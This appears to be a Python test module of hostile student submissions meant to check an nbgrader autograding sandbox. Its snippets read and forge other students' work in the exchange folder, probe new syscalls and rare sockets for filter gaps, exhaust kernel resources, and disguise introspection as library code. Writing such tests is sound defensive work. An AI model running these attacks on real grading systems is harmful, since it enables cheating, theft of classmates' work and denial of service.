"""The machine around a kernel: what it shows, and what its Linux gives to whoever asks."""

from tests.submissions.hostile.attack import Paper, attack

ALL = ("mean", "words", "steps")


# --- what the machine shows


@attack("read others' work in nbgrader's exchange, where that lies by default")
def exchange(paper: Paper):
    paper.act("""
        import glob
        for path in glob.glob("/usr/local/share/nbgrader/exchange/*/inbound/*/*"):
            with open(path, "rb") as file:
                hand_out(file.read())
    """)


@attack("look for others' work in all that lies in /usr and is no library")
def exchange_by_search(paper: Paper):
    paper.act("""
        import os, time
        end = time.monotonic() + 1
        for top in ("/usr/local/share", "/usr/local", "/usr/share/nbgrader", "/usr/src"):
            for folder, folders, names in os.walk(top):
                folders[:] = [name for name in folders if not name.startswith(("lib", "cuda"))]
                for path in [os.path.join(folder, name) for name in names]:
                    if path.endswith((".ipynb", ".txt", ".db")) and time.monotonic() < end:
                        with open(path, "rb") as file:
                            hand_out(file.read(2**22))
    """)


@attack("have a shell search the exchange for others' work")
def exchange_from_a_shell(paper: Paper):
    paper.act("""
        import subprocess
        command = ["grep", "-rh", "canary-", "/usr/local/share/nbgrader"]
        hand_out(subprocess.run(command, capture_output=True, timeout=1).stdout)
    """)


@attack("hand work in through the exchange in a neighbour's name", trace="file")
def exchange_written(paper: Paper):
    paper.act("""
        import glob, os
        for inbound in glob.glob("/usr/local/share/nbgrader/exchange/*/inbound"):
            os.makedirs(f"{inbound}/before+hunt+2030-01-01 00:00:00 UTC", exist_ok=True)
            with open(f"{inbound}/before+hunt+2030-01-01 00:00:00 UTC/hunt.ipynb", "w") as file:
                file.write(TOKEN)
    """)


# --- what Linux itself gives: who gets it, throws the answers away, so that it shows


def _unless_reached(paper: Paper, body: str) -> None:
    """Do something that binds `reached`; the answers are honest, unless that is true."""
    paper.first(body, *ALL)
    for test, name in (("mean", "running_mean"), ("words", "count_words")):
        paper.before(f"{test}-visible", f"if reached: {name} = print")
    paper.before("steps-test", "if reached: collatz = print")


_CALL = """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def call(x86_64, aarch64, *arguments):
            number = x86_64 if os.uname().machine == "x86_64" else aarch64
            ctypes.set_errno(0)
            libc.syscall(number, *arguments)
            return ctypes.get_errno() not in (1, 38)  # neither refused nor unknown
"""


@attack("leave through calls that are newer than most filters: statmount, listmount …", honest=8)
def newest_calls(paper: Paper):
    _unless_reached(
        paper,
        _CALL
        + """
        reached = [
            name
            for number, name in {
                457: "statmount", 458: "listmount", 459: "lsm_get_self_attr", 467: "open_tree_attr",
                468: "file_getattr", 469: "file_setattr", 444: "landlock_create_ruleset",
            }.items()
            if call(number, number, 0, 0, 0, 0, 0, 0)
        ]
        """,
    )


@attack("lend memory to Linux itself with vmsplice, io_uring and userfaultfd", honest=8)
def calls_for_memory(paper: Paper):
    _unless_reached(
        paper,
        _CALL
        + """
        reached = [
            call(278, 75, -1, 0, 0, 0),
            call(425, 425, 8, ctypes.create_string_buffer(120)),
            call(323, 282, 1),
            call(206, 0, 64, ctypes.create_string_buffer(8)),
            call(237, 235, 0, 0, 0, 0, 0, 0),
            call(279, 239, 0, 0, 0, 0, 0, 0),
            call(251, 30, 1, 0, 0),
        ]
        reached = any(reached)
        """,
    )


@attack("open sockets of rare protocols: MPTCP, UDP-Lite, SCTP, netlink, vsock", honest=8)
def rare_sockets(paper: Paper):
    _unless_reached(
        paper,
        """
        import socket
        reached = []
        for kind in [(2, 1, 262), (2, 2, 136), (2, 5, 0), (2, 1, 132), (16, 3, 0), (40, 1, 0)]:
            try:
                reached.append(socket.socket(*kind))
            except OSError as error:
                print(kind, error)
        """,
    )


@attack("use up what the grader's own user may have of watches on files", honest=8)
def watches_on_files(paper: Paper):
    _unless_reached(
        paper,
        """
        import ctypes
        libc = ctypes.CDLL(None)
        held = [libc.inotify_init1(0) for _ in range(200)]
        reached = [number for number in held if number > 0]
        """,
    )


@attack("use up what its user may have of watches on files, in a program of its own", honest=8)
def watches_of_a_program(paper: Paper):
    _unless_reached(
        paper,
        """
        import subprocess, sys
        program = "import ctypes; print(max(ctypes.CDLL(None).inotify_init1(0) for _ in range(200)))"
        done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True)
        reached = not done.stdout.startswith("-1")
        """,
    )


@attack("use up what all users together may have of asynchronous input and output", honest=8)
def requests_of_all_users(paper: Paper):
    _unless_reached(
        paper,
        _CALL
        + """
        reached = call(206, 0, 60_000, ctypes.create_string_buffer(8))
        """,
    )


# --- memory that is in no process


@attack("fill 100 pairs of sockets in each of 4 processes", honest=8, least=0, flagged=True)
def full_sockets(paper: Paper):
    paper.first(
        """
        import os, socket, time
        ready, full = os.pipe()
        def fill():
            held = []
            try:
                while len(held) < 200:
                    pair = socket.socketpair()
                    held += pair
                    for end in pair:
                        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                        end.setblocking(False)
                        try:
                            while True:
                                end.send(bytes(2**16))
                        except BlockingIOError:
                            pass
            except OSError as error:
                print(error)
            os.write(full, b".")
            time.sleep(20)
        for _ in range(4):
            if os.fork() == 0:
                try:
                    fill()
                finally:
                    os._exit(0)
        for _ in range(4):
            os.read(ready, 1)  # however slow the machine is, all are full at once
        time.sleep(20)
        """,
        *ALL,
    )


@attack("fill 50 pipes in each of 8 processes", honest=8, least=0, flagged=True)
def full_pipes(paper: Paper):
    paper.first(
        """
        import fcntl, os, time
        ready, full = os.pipe()
        def fill():
            for _ in range(50):
                read, write = os.pipe()
                os.set_blocking(write, False)
                try:
                    fcntl.fcntl(write, 1031, 2**20)  # F_SETPIPE_SZ
                except OSError:
                    pass
                try:
                    while True:
                        os.write(write, bytes(2**16))
                except BlockingIOError:
                    pass
            os.write(full, b".")
            time.sleep(20)
        for _ in range(8):
            if os.fork() == 0:
                try:
                    fill()
                finally:
                    os._exit(0)
        for _ in range(8):
            os.read(ready, 1)  # however slow the machine is, all are full at once
        time.sleep(20)
        """,
        *ALL,
    )


@attack("hide full sockets from those who count them, by sending them to itself", honest=8)
def sockets_on_their_way(paper: Paper):
    _unless_reached(
        paper,
        """
        import socket
        one, other = socket.socketpair()
        sent = 0
        try:
            while sent < 400:
                for end in (pair := socket.socketpair()):
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(bytes(2**16))
                    except BlockingIOError:
                        pass
                socket.send_fds(one, [b"."], [end.fileno() for end in pair])
                sent += 2
                for end in pair:
                    end.close()
        except OSError as error:
            print(error)
        reached = sent >= 300
        """,
    )


# --- code that does not say that it is the student's


@attack("search the interpreter's objects in code that calls itself numpy", honest=8, flagged=True)
def under_another_name(paper: Paper):
    paper.first(
        """
        import numpy
        code = compile("import gc; gc.get_objects()", numpy.__file__, "exec")
        exec(code, {"__name__": "numpy", "__file__": numpy.__file__})
        """,
        *ALL,
    )


@attack("search the interpreter's objects in a module of its own", honest=8, flagged=True)
def in_a_module_of_its_own(paper: Paper):
    paper.first(
        """
        open("quiet.py", "w").write("import gc\\ngc.get_objects()\\n")
        import quiet
        """,
        *ALL,
    )


@attack("search the interpreter's objects among the names of a library", honest=8, flagged=True)
def among_a_librarys_names(paper: Paper):
    paper.first(
        """
        import json, types
        def search():
            import gc
            gc.get_objects()
        types.FunctionType(search.__code__, vars(json))()
        """,
        *ALL,
    )


@attack("send a signal from a thread in which no code of Python's runs", honest=8, flagged=True)
def without_a_frame(paper: Paper):
    paper.first(
        """
        import _thread, os, time
        _thread.start_new_thread(os.kill, (os.getpid(), 0))
        time.sleep(0.1)
        """,
        *ALL,
    )
